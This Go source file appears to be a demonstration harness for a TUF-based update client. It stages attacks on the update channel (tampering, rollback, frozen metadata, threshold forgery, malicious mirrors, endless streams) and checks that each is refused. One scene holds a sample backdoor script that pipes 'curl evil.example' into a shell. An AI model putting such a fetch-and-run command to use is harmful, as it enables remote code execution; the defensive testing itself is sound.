package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/latchsec/latch/client"
	"github.com/theupdateframework/go-tuf/v2/metadata"
)

// demoStart is the demo clock's reading when each scene begins; the
// repository signs at this time too.
var demoStart = time.Date(2026, 1, 1, 9, 0, 0, 0, time.UTC)

// clock is the demo clock given to the client (client.WithClock), so that
// expiry is deterministic and a scene can let days pass.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.t
}

func (c *clock) advance(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(d)
}

// logBook collects the client's warnings (JSON lines), to show which mirror
// latch skipped and why.
type logBook struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *logBook) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

// skipped returns, for each "target mirror failed" warning, the mirror and
// the reason.
func (l *logBook) skipped() (mirrors, reasons []string, err error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	sc := bufio.NewScanner(bytes.NewReader(l.buf.Bytes()))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var rec struct {
			Msg    string `json:"msg"`
			Mirror string `json:"mirror"`
			Err    string `json:"err"`
		}
		if err := json.Unmarshal(sc.Bytes(), &rec); err != nil {
			return nil, nil, fmt.Errorf("reading the client's log: %w", err)
		}
		if rec.Msg == "target mirror failed" {
			mirrors = append(mirrors, rec.Mirror)
			reasons = append(reasons, rec.Err)
		}
	}
	return mirrors, reasons, sc.Err()
}

// releaseInfo is the signed custom metadata of a release of myapp.
type releaseInfo struct {
	Version  string    `json:"version"`
	Channels []string  `json:"channels"`
	TLog     *tlogInfo `json:"tlog,omitempty"` // with a transparency log
}

// tlogInfo names a release's entry in the transparency log.
type tlogInfo struct {
	Index int64 `json:"index"`
}

// world is one fresh setup: a repository that has published myapp 1.0.0 and
// then 2.0.0, mirrors that hold 1.0.0 so far (a scene decides whether they
// sync 2.0.0, and what they tamper with), and a device on which a latch
// client installed 1.0.0 from them.
type world struct {
	repo     *repo
	sites    []*site
	clock    *clock
	log      *logBook
	client   *client.Client
	app      string // the installed application
	stateDir string // the client's
}

func newWorld(ctx context.Context, dir string, mirrors ...string) (_ *world, err error) {
	return newWorldLogged(ctx, dir, nil, mirrors...)
}

// newWorldLogged is newWorld with the repository logging every release in
// tl, served by each mirror under /log/, and the client requiring that log
// for myapp's releases (nil: no log).
func newWorldLogged(ctx context.Context, dir string, tl *releaseLog,
	mirrors ...string) (_ *world, err error) {
	w := &world{
		clock: &clock{t: demoStart}, log: &logBook{},
		app: filepath.Join(dir, "app", "myapp"), stateDir: filepath.Join(dir, "tuf"),
	}
	defer func() {
		if err != nil {
			w.close()
		}
	}()
	if w.repo, err = newRepo(demoStart); err != nil {
		return nil, err
	}
	w.repo.log = tl
	if err := w.repo.release("1.0.0"); err != nil {
		return nil, err
	}
	cfg := client.Config{TrustedRoot: w.repo.rootJSON(), StateDir: w.stateDir}
	for _, name := range mirrors {
		s := newSite(name)
		s.sync(w.repo)
		w.sites = append(w.sites, s)
		cfg.MetadataURLs = append(cfg.MetadataURLs, s.metadataURL())
		cfg.TargetURLs = append(cfg.TargetURLs, s.targetsURL())
		if tl != nil {
			s.serveLog(tl.dir)
			if cfg.TransparencyLog == nil {
				cfg.TransparencyLog = tl.policy()
			}
			tlog := cfg.TransparencyLog
			tlog.URLs = append(tlog.URLs, s.srv.URL+"/log/")
		}
	}
	if err := os.MkdirAll(filepath.Dir(w.app), 0o755); err != nil {
		return nil, err
	}
	logger := slog.New(slog.NewJSONHandler(w.log, &slog.HandlerOptions{Level: slog.LevelWarn}))
	w.client, err = client.New(cfg, client.WithClock(w.clock.now), client.WithLogger(logger))
	if err != nil {
		return nil, err
	}
	if _, err := w.update(ctx, "1.0.0"); err != nil {
		return nil, fmt.Errorf("installing myapp 1.0.0: %w", err)
	}
	if err := w.repo.release("2.0.0"); err != nil {
		return nil, err
	}
	return w, nil
}

// close stops the world's client and servers. The client's Close only
// releases the lock on a state directory the demo deletes anyway.
func (w *world) close() {
	if w.client != nil {
		w.client.Close()
	}
	for _, s := range w.sites {
		s.close()
	}
}

// mirror is the first (in most scenes the only) mirror.
func (w *world) mirror() *site { return w.sites[0] }

// syncAll lets every mirror pick up the 2.0.0 release.
func (w *world) syncAll() {
	for _, s := range w.sites {
		s.sync(w.repo)
	}
}

// update is the application's updater: refresh the trusted metadata, look
// up the release for this platform, check its signed version and channel,
// and download it over the installed application. latch verifies it before
// the file appears.
func (w *world) update(ctx context.Context, version string) (*client.Target, error) {
	if err := w.client.Refresh(ctx); err != nil {
		return nil, err
	}
	t, err := w.client.Target(ctx, targetPath(version))
	if err != nil {
		return nil, err
	}
	var info releaseInfo
	if err := json.Unmarshal(t.Custom(), &info); err != nil {
		return nil, fmt.Errorf("release metadata of %s: %w", t.Path(), err)
	}
	if info.Version != version || !slices.Contains(info.Channels, "stable") {
		return nil, fmt.Errorf("%s is signed as version %q on channels %q, "+
			"not %s on stable",
			t.Path(), info.Version, info.Channels, version)
	}
	return t, w.client.DownloadFile(ctx, t, w.app)
}

// appState is what is on disk where the application lives.
type appState struct {
	content []byte
	entries []string // names in the application's directory
}

func (w *world) appState() (appState, error) {
	b, err := os.ReadFile(w.app)
	if err != nil {
		return appState{}, err
	}
	ents, err := os.ReadDir(filepath.Dir(w.app))
	if err != nil {
		return appState{}, err
	}
	st := appState{content: b}
	for _, e := range ents {
		st.entries = append(st.entries, e.Name())
	}
	return st, nil
}

func (a appState) equal(b appState) bool {
	return bytes.Equal(a.content, b.content) && slices.Equal(a.entries, b.entries)
}

// label names the installed application by its content.
func (a appState) label() string {
	for _, v := range []string{"1.0.0", "2.0.0", "2.0.1", "2.1.0"} {
		if bytes.Equal(a.content, binary(v)) {
			return "myapp " + v
		}
		if bytes.Equal(a.content, brokenBuild(v)) {
			return "broken " + v
		}
		if bytes.Equal(a.content, backdoor(v)) {
			return "backdoor " + v
		}
	}
	return fmt.Sprintf("unknown %d bytes", len(a.content))
}

var longHex = regexp.MustCompile(`[0-9a-f]{64}`)

// explain turns an error into one readable line (see shorten). Of a
// failure on the mirrors it keeps the part that names the file, the mirror
// and latch's reason.
func (w *world) explain(err error) string {
	var merr *client.MirrorError
	if errors.As(err, &merr) {
		err = merr
	}
	return w.shorten(err.Error())
}

// shorten puts mirror names in place of loopback URLs and shortens hashes.
func (w *world) shorten(msg string) string {
	for _, s := range w.sites {
		msg = strings.ReplaceAll(msg, s.srv.URL, s.name)
	}
	return shortHashes(msg)
}

// shortHashes shortens the SHA-256 hashes in msg to their first 10 digits.
func shortHashes(msg string) string {
	return longHex.ReplaceAllStringFunc(msg, func(h string) string { return h[:10] + "…" })
}

// sentinels are the errors the report names, in the order it tries them.
var sentinels = []struct {
	name string
	err  error
}{
	{"ErrHashMismatch", client.ErrHashMismatch},
	{"ErrLengthMismatch", client.ErrLengthMismatch},
	{"ErrRollback", client.ErrRollback},
	{"ErrExpired", client.ErrExpired},
	{"ErrVersionMismatch", client.ErrVersionMismatch},
	{"ErrThreshold", client.ErrThreshold},
	{"ErrTooLarge", client.ErrTooLarge},
	{"ErrNotFound", client.ErrNotFound},
	{"ErrUnknownTarget", client.ErrUnknownTarget},
	{"ErrNotLogged", client.ErrNotLogged},
	{"ErrWrongLogEntry", client.ErrWrongLogEntry},
	{"ErrSplitView", client.ErrSplitView},
	{"ErrLogRollback", client.ErrLogRollback},
	{"ErrInvalidLogProof", client.ErrInvalidLogProof},
}

func sentinelName(err error) string {
	for _, s := range sentinels {
		if errors.Is(err, s.err) {
			return s.name
		}
	}
	return "untyped error"
}

// scene is one attack on the update channel.
type scene struct {
	name   string
	attack string // what the attacker does, for the report
	// mirrors names the sites of the scene's world.
	mirrors []string
	// stage sets up the attack in a fresh world.
	stage func(ctx context.Context, w *world) error
	// want is the sentinel latch must answer the update with; nil means
	// the update must succeed despite the attack.
	want error
	// note explains a choice, for the report; optional.
	note string
}

// outcome is what happened in one scene.
type outcome struct {
	stopped  bool   // the attack failed and the app is as it should be
	verdict  string // the sentinel latch answered with, or how it succeeded
	evidence string // one line: latch's error, or what it skipped
	app      string // the application on disk afterwards
}

var scenes = []scene{
	{
		name:    "tampered binary",
		attack:  "flips one bit of myapp 2.0.0 on the mirror",
		mirrors: []string{"mirror"},
		want:    client.ErrHashMismatch,
		stage: func(_ context.Context, w *world) error {
			w.syncAll()
			b := binary("2.0.0")
			b[len(b)/2] ^= 0x01
			w.mirror().attack(release2URL(), serveBytes(b))
			return nil
		},
	},
	{
		name:    "replayed old version",
		attack:  "replays the archived timestamp v1 to a client on 2.0.0 that trusts v2",
		mirrors: []string{"mirror"},
		want:    client.ErrRollback,
		stage: func(ctx context.Context, w *world) error {
			w.syncAll()
			if _, err := w.update(ctx, "2.0.0"); err != nil {
				return fmt.Errorf("honest update before the replay: %w", err)
			}
			old := w.repo.timestamps[0]
			w.mirror().attack("metadata/timestamp.json", serveBytes(old))
			return nil
		},
	},
	{
		name: "frozen metadata",
		attack: "keeps serving 1.0.0's metadata after 2.0.0 is out; " +
			"the clock moves 2 days on",
		mirrors: []string{"mirror"},
		want:    client.ErrExpired,
		stage: func(_ context.Context, w *world) error {
			// The mirror is not synced: it keeps serving what it had.
			w.clock.advance(freezeFor)
			return nil
		},
	},
	{
		name: "mix-and-match",
		attack: "serves the valid targets v1 under the name 2.targets.json " +
			"that snapshot v2 lists",
		mirrors: []string{"mirror"},
		want:    client.ErrVersionMismatch,
		note: "snapshot lists targets.json by version only (go-tuf's default); " +
			"with hashes listed, ErrHashMismatch would come first",
		stage: func(_ context.Context, w *world) error {
			w.syncAll()
			v1 := w.repo.files["metadata/1.targets.json"]
			w.mirror().attack("metadata/2.targets.json", serveBytes(v1))
			return nil
		},
	},
	{
		name: "stolen key below threshold",
		attack: "signs targets v2 with 1 of the 2 required keys, " +
			"pointing myapp 2.0.0 at a backdoor",
		mirrors: []string{"mirror"},
		want:    client.ErrThreshold,
		stage: func(_ context.Context, w *world) error {
			w.syncAll()
			evil := []byte("#!/bin/sh\necho 'myapp 2.0.0'; curl -s evil.example | sh\n")
			stolen := w.repo.keys[metadata.TARGETS][0]
			p := targetPath("2.0.0")
			forged, err := w.repo.forgeTargets(p, "2.0.0", evil, nil, stolen)
			if err != nil {
				return err
			}
			w.mirror().put(targetURLPath(targetPath("2.0.0"), evil), evil)
			w.mirror().attack("metadata/2.targets.json", serveBytes(forged))
			return nil
		},
	},
	{
		name:    "malicious mirror",
		attack:  "mirror-a serves the signed 1.0.0 binary as 2.0.0; mirror-b is honest",
		mirrors: []string{"mirror-a", "mirror-b"},
		stage: func(_ context.Context, w *world) error {
			w.syncAll()
			w.mirror().attack(release2URL(), serveBytes(binary("1.0.0")))
			return nil
		},
	},
	{
		name:    "endless timestamp",
		attack:  "streams timestamp.json forever",
		mirrors: []string{"mirror"},
		want:    client.ErrTooLarge,
		stage: func(_ context.Context, w *world) error {
			w.syncAll()
			endless := serveEndless([]byte(`{"signed":`))
			w.mirror().attack("metadata/timestamp.json", endless)
			return nil
		},
	},
	{
		name:    "endless binary",
		attack:  "streams myapp 2.0.0 forever",
		mirrors: []string{"mirror"},
		want:    client.ErrTooLarge,
		stage: func(_ context.Context, w *world) error {
			w.syncAll()
			w.mirror().attack(release2URL(), serveEndless(binary("2.0.0")))
			return nil
		},
	},
}

// release2URL is where a mirror serves myapp 2.0.0.
func release2URL() string { return targetURLPath(targetPath("2.0.0"), binary("2.0.0")) }

// freezeFor is how far the frozen-metadata scene moves the clock: past the
// timestamp's expiry.
const freezeFor = 2 * timestampLife

// play runs sc in a fresh world below dir: stage the attack, then let the
// application try to update to 2.0.0.
func play(ctx context.Context, dir string, sc scene) (outcome, error) {
	w, err := newWorld(ctx, dir, sc.mirrors...)
	if err != nil {
		return outcome{}, err
	}
	defer w.close()
	if err := sc.stage(ctx, w); err != nil {
		return outcome{}, err
	}
	before, err := w.appState()
	if err != nil {
		return outcome{}, err
	}
	_, uerr := w.update(ctx, "2.0.0")
	after, err := w.appState()
	if err != nil {
		return outcome{}, err
	}
	if sc.want == nil {
		return w.survived(uerr, after)
	}
	return w.refused(sc.want, uerr, before, after), nil
}

// refused judges a scene the update must fail with want, leaving the app
// as it was.
func (w *world) refused(want, uerr error, before, after appState) outcome {
	o := outcome{verdict: sentinelName(uerr), app: "untouched (" + after.label() + ")"}
	if uerr == nil {
		o.verdict, o.evidence = "NOT STOPPED", "the update went through"
	} else {
		o.evidence = w.explain(uerr)
	}
	if !before.equal(after) {
		o.app = "CHANGED to " + after.label()
	}
	o.stopped = uerr != nil && errors.Is(uerr, want) && before.equal(after)
	return o
}

// survived judges the malicious-mirror scene: the update must succeed, the
// app must be 2.0.0, and latch must have skipped mirror-a for a failed check.
func (w *world) survived(uerr error, after appState) (outcome, error) {
	o := outcome{app: "updated (" + after.label() + ")"}
	if uerr != nil {
		o.verdict, o.evidence = sentinelName(uerr), w.explain(uerr)
		return o, nil
	}
	mirrors, reasons, err := w.log.skipped()
	if err != nil {
		return outcome{}, err
	}
	bad, good := w.sites[0], w.sites[1]
	o.verdict = "updated from " + good.name
	var skips []string
	for i, m := range mirrors {
		skips = append(skips, "skipped "+w.shorten(m)+": "+w.shorten(reasons[i]))
	}
	o.evidence = strings.Join(skips, "; ")
	if len(skips) == 0 {
		o.evidence = "no mirror skipped"
	}
	o.stopped = after.label() == "myapp 2.0.0" &&
		len(mirrors) == 1 && mirrors[0] == bad.targetsURL() &&
		strings.Contains(reasons[0], client.ErrHashMismatch.Error())
	return o, nil
}
